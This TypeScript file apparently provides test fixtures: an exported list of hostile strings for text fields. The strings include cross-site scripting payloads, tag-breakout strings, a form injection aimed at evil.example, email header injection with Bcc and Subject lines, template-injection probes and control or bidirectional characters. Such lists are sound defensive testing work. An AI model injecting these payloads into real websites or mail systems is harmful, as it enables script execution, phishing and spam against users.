/** What people put, or are put, into fields of text. */
export const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><h1>x',
  '</textarea><form action=//evil.example>',
  '\u202Eevil\u202C \u2066x',
  'a\u200Bb\u0000c\u001Bd\u0007',
  'x\r\nBcc: victim@evil.example\r\n\r\nbody',
  '\r\nSubject: evil',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are what is tried
  '{{7*7}} ${7*7} <%= 7 %>',
  'javascript:alert(1)',
  'evil.example/',
  '张伟 & 王芳',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '\uD800 lone',
];
